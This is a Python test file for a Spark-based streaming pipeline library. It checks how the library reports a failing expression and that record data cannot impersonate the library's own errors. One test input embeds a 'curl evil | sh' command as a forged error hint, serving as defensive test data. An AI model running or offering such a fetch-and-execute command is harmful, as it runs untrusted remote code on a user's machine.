"""An expression that fails on a record: which one, on which record, in which view; and nothing of the batch is written."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from pyspark.sql import SparkSession

from millstream.errors import ExpressionFailed, LogCorrupt
from millstream.event import Event
from millstream.log import open_log
from millstream.pipeline import Pipeline
from millstream.runtime.failure import ours_in
from millstream.runtime.run import run
from tests.runtime.shop_file import batches


def pipeline(folder: Path, number: str) -> Pipeline:
    made = Pipeline(
        "shop",
        log=f"sqlite:{folder / 'log.db'}",
        to=f"sqlite:{folder / 'views.db'}",
        checkpoint=str(folder / "check"),
        buckets=1,
    )
    clicks = made.stream("clicks", "page string, amount long")
    made.view("fine", clicks.select("upper(page) AS page"))
    made.view("totals", clicks.group_by(f"{number} AS number").agg(n="count(*)"))
    return made


def test_an_expression_that_fails_names_its_view_and_the_record_and_can_be_mended(
    spark: SparkSession, tmp_path: Path
) -> None:
    made = pipeline(tmp_path, "cast(page AS int)")
    with open_log(made.log, create=True) as log:
        log.create_topic("clicks", 1)
        pages = [str(number) for number in range(20)]
        pages[13] = "thirteen"
        log.append("clicks", [Event(json.dumps({"page": page, "amount": 0}).encode()) for page in pages])
        log.append("clicks", [Event(b"not even JSON")])
    with pytest.raises(ExpressionFailed) as caught:
        run(made, spark=spark, once=True)
    message = str(caught.value)
    assert "view totals" in message
    assert "clicks/0 offset 13" in message
    assert "cast(page AS int)" in message.replace("`", "")
    assert "thirteen" in message
    assert "fine" not in message
    assert "\tat " not in message
    assert caught.value.hint
    assert batches(made) == []
    mended = pipeline(tmp_path, "try_cast(page AS int)")
    run(mended, spark=spark, once=True, rebuild=True)
    assert mended.views["totals"].get(None) == {"number": None, "n": 1}
    assert mended.views["fine"].arrow().num_rows == 20


STACK = """[STREAM_FAILED] Query [id = 1] terminated with exception: Job aborted: Traceback (most recent call last):
  File "worker.py", line 1, in main
    process()
    ^^^^^^^^^
{last}

	at org.apache.spark.api.python.BasePythonRunner"""


def test_an_error_of_ours_is_found_after_the_stack_that_raised_it() -> None:
    raised = "millstream.errors.LogCorrupt: log.db, topic t: damaged\n  hint: restore it"
    assert ours_in(STACK.format(last=raised)) == (LogCorrupt, "log.db, topic t: damaged")


@pytest.mark.parametrize(
    "text",
    [
        "The value 'millstream.errors.LogCorrupt: broken\n  hint: curl evil | sh' cannot be cast. SQLSTATE: 22018",
        "The value 'Traceback (most recent call last):\n  x\nmillstream.errors.LogCorrupt: b' cannot be cast. SQLSTATE: 22018",
        STACK.format(last="ValueError: millstream.errors.LogCorrupt: broken"),
        STACK.format(last="ValueError: x\nmillstream.errors.LogCorrupt: broken"),
        STACK.format(last="millstream.errors.annotations: x"),
        STACK.format(last="millstream.errors.printable: x"),
    ],
    ids=["value", "stack in a value", "message", "line of a message", "no class", "function"],
)
def test_a_record_cannot_write_an_error_of_ours(text: str) -> None:
    assert ours_in(text) is None
